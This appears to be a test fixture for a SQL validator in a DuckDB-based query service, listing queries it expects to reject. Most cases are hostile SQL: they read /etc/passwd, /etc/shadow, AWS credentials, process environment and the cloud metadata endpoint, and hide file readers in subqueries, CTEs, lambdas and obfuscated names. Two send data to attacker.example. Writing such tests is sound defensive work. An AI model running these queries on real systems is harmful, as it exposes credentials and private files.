--- read_csv of a system file | query_not_allowed
SELECT * FROM read_csv('/etc/passwd')

--- read_csv_auto | query_not_allowed
SELECT * FROM read_csv_auto('/etc/passwd', sep=':')

--- read_text of the environment | query_not_allowed
SELECT content FROM read_text('/proc/self/environ')

--- read_blob | query_not_allowed
SELECT * FROM read_blob('/proc/self/mem')

--- read_parquet of another org | query_not_allowed
SELECT * FROM read_parquet('s3://trace/orgs/other/blocks/*.parquet')

--- parquet_scan | query_not_allowed
SELECT * FROM parquet_scan('/var/lib/trace/data.parquet')

--- parquet_metadata | query_not_allowed
SELECT * FROM parquet_metadata('/tmp/a.parquet')

--- parquet_schema | query_not_allowed
SELECT * FROM parquet_schema('/tmp/a.parquet')

--- parquet_file_metadata | query_not_allowed
SELECT * FROM parquet_file_metadata('/tmp/a.parquet')

--- parquet_kv_metadata | query_not_allowed
SELECT * FROM parquet_kv_metadata('/tmp/a.parquet')

--- parquet_bloom_probe | query_not_allowed
SELECT * FROM parquet_bloom_probe('/tmp/a.parquet', 'token', 'x')

--- parquet_full_metadata | query_not_allowed
SELECT * FROM parquet_full_metadata('/tmp/a.parquet')

--- read_json | query_not_allowed
SELECT * FROM read_json('/etc/hostname')

--- read_json_auto | query_not_allowed
SELECT * FROM read_json_auto('http://169.254.169.254/latest/meta-data/')

--- read_json_objects | query_not_allowed
SELECT * FROM read_json_objects('/root/.aws/credentials')

--- read_ndjson | query_not_allowed
SELECT * FROM read_ndjson('/var/log/trace.jsonl')

--- read_ndjson_objects | query_not_allowed
SELECT * FROM read_ndjson_objects('/var/log/trace.jsonl')

--- read_duckdb | query_not_allowed
SELECT * FROM read_duckdb('/tmp/other.duckdb', table_name = 'x')

--- read_single_csv_file | query_not_allowed
SELECT * FROM read_single_csv_file('/etc/passwd')

--- sniff_csv | query_not_allowed
SELECT * FROM sniff_csv('/etc/passwd')

--- glob lists files | query_not_allowed
SELECT * FROM glob('/**')

--- glob in a lateral join | query_not_allowed
SELECT b.block_number, g.file FROM blocks b, LATERAL (SELECT file FROM glob('/home/*')) g

--- reader in a scalar subquery | query_not_allowed
SELECT (SELECT content FROM read_text('/etc/passwd'))

--- reader in a CTE body | query_not_allowed
WITH secrets AS (SELECT * FROM read_text('/etc/shadow')) SELECT * FROM secrets

--- reader in a recursive CTE | query_not_allowed
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r, read_text('/etc/passwd') WHERE n < 3) SELECT * FROM r

--- reader in EXISTS | query_not_allowed
SELECT * FROM blocks WHERE EXISTS (SELECT 1 FROM read_text('/etc/passwd') WHERE content LIKE 'root%')

--- reader in IN | query_not_allowed
SELECT * FROM blocks WHERE author IN (SELECT content FROM read_text('/etc/passwd'))

--- reader in ORDER BY | query_not_allowed
SELECT * FROM blocks ORDER BY (SELECT content FROM read_text('/etc/passwd'))

--- reader in LIMIT | query_not_allowed
SELECT * FROM blocks LIMIT (SELECT length(content) FROM read_text('/etc/passwd'))

--- reader in a PIVOT source | query_not_allowed
PIVOT (SELECT * FROM read_csv('/etc/passwd')) ON column0 IN ('root') USING count(*)

--- reader in an UNPIVOT source | query_not_allowed
UNPIVOT (SELECT * FROM read_csv('/etc/passwd')) ON column0, column1 INTO NAME n VALUE v

--- reader in HAVING | query_not_allowed
SELECT author FROM blocks GROUP BY author HAVING count(*) > (SELECT count(*) FROM glob('/*'))

--- reader in QUALIFY | query_not_allowed
SELECT author FROM blocks QUALIFY row_number() OVER (ORDER BY (SELECT file FROM glob('/*') LIMIT 1)) = 1

--- reader in a window frame | query_not_allowed
SELECT sum(gas_used) OVER (ORDER BY block_number ROWS BETWEEN (SELECT count(*) FROM glob('/*')) PRECEDING AND CURRENT ROW) FROM blocks

--- reader in an aggregate filter | query_not_allowed
SELECT count(*) FILTER (WHERE author = (SELECT content FROM read_text('/etc/passwd'))) FROM blocks

--- reader in an aggregate order | query_not_allowed
SELECT list(author ORDER BY (SELECT file FROM glob('/*') LIMIT 1)) FROM blocks

--- reader in a lambda | query_not_allowed
SELECT list_transform([1], lambda x: (SELECT content FROM read_text('/etc/passwd')))

--- reader in REPLACE of a star | query_not_allowed
SELECT * REPLACE ((SELECT content FROM read_text('/etc/passwd')) AS author) FROM blocks

--- reader in a join condition | query_not_allowed
SELECT * FROM blocks a JOIN blocks b ON a.author = (SELECT content FROM read_text('/etc/passwd'))

--- reader in a CASE | query_not_allowed
SELECT CASE WHEN true THEN (SELECT content FROM read_text('/etc/passwd')) END

--- reader in a struct | query_not_allowed
SELECT {'a': (SELECT content FROM read_text('/etc/passwd'))}

--- reader in VALUES | query_not_allowed
VALUES ((SELECT content FROM read_text('/etc/passwd')))

--- reader in a set operation | query_not_allowed
SELECT author FROM blocks UNION ALL SELECT content FROM read_text('/etc/passwd')

--- reader in the second of three | query_not_allowed
SELECT 'a' UNION SELECT content FROM read_text('/etc/passwd') UNION SELECT 'b'

--- reader in DISTINCT ON | query_not_allowed
SELECT DISTINCT ON ((SELECT file FROM glob('/*') LIMIT 1)) author FROM blocks

--- reader in GROUP BY | query_not_allowed
SELECT count(*) FROM blocks GROUP BY (SELECT file FROM glob('/*') LIMIT 1)

--- reader in upper case and quotes | query_not_allowed
SELECT * FROM "READ_TEXT"('/etc/passwd')

--- reader with spaces before the bracket | query_not_allowed
SELECT * FROM read_text   ('/etc/passwd')

--- reader with a comment before the bracket | query_not_allowed
SELECT * FROM read_text/**/('/etc/passwd')

--- reader with a schema | query_not_allowed
SELECT * FROM main.read_text('/etc/passwd')

--- reader with a catalogue | query_not_allowed
SELECT * FROM system.main.read_text('/etc/passwd')

--- reader as a scalar | query_not_allowed
SELECT read_text('/etc/passwd')

--- URL over HTTP | query_not_allowed
SELECT * FROM read_csv('http://attacker.example/x.csv')

--- URL over HTTPS with data in it | query_not_allowed
SELECT * FROM read_text('https://attacker.example/?q=' || (SELECT author FROM blocks LIMIT 1))

--- Hugging Face URL | query_not_allowed
SELECT * FROM read_parquet('hf://datasets/x/y.parquet')

--- Azure URL | query_not_allowed
SELECT * FROM read_parquet('az://container/x.parquet')

--- arrow_scan of a pointer | query_not_allowed
SELECT * FROM arrow_scan(0, 0, 0)

--- pandas_scan of a pointer | query_not_allowed
SELECT * FROM pandas_scan(140737488355328)

--- python_arrow_scan | query_not_allowed
SELECT * FROM python_arrow_scan(1, 2, 3)

--- seq_scan | query_not_allowed
SELECT * FROM seq_scan('blocks')

--- python_map_function | query_not_allowed
SELECT * FROM python_map_function((SELECT 1))

--- which_secret | query_not_allowed
SELECT * FROM which_secret('s3://trace/x', 's3')

--- getenv | query_unknown_function
SELECT getenv('HOME')

--- postgres_scan | query_not_allowed
SELECT * FROM postgres_scan('host=127.0.0.1 dbname=state', 'public', 'tasks')

--- sqlite_scan | query_not_allowed
SELECT * FROM sqlite_scan('/tmp/x.db', 't')

--- mysql_scan | query_not_allowed
SELECT * FROM mysql_scan('', '', '')

--- st_read | query_not_allowed
SELECT * FROM st_read('/etc/passwd')

--- read_xlsx | query_not_allowed
SELECT * FROM read_xlsx('/tmp/x.xlsx')

--- iceberg_scan | query_not_allowed
SELECT * FROM iceberg_scan('s3://x')

--- delta_scan | query_not_allowed
SELECT * FROM delta_scan('s3://x')

--- parse_path | query_not_allowed
SELECT parse_path('/etc/passwd')
